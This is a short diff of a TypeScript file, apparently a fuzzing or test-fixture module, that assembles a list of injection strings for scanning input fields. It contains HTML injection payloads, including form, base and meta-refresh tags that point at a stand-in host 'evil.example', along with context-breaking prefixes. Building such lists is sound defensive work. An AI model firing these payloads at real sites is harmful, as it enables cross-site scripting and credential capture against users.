@@ -1,4 +1,4 @@
-// Texts that mean something to some interpreter: what scanners put into every field.
+// Strings that some interpreter would execute: what scanners put into every field.
 
 const orders = [
   ...[
@@ -49,10 +49,9 @@ const scripts = [
   ...['<base href=//evil.example/>', '<form action=//evil.example><input>', '<object data=x>'],
   ...['<meta http-equiv=refresh content=0;url=//evil.example>', '<template><script>', '<!--'],
 ];
-/** What a text may have to get out of, to be read as more than a text. */
+/** Prefixes that break out of a surrounding context. */
 const exits = ['', '">', "'>", '</title>', '</textarea>', '--><', ']]>', '\\";', '\u0000'];
 
-/** Each of them once. */
 export const attackStrings: readonly string[] = [
   ...new Set([
     ...orders,
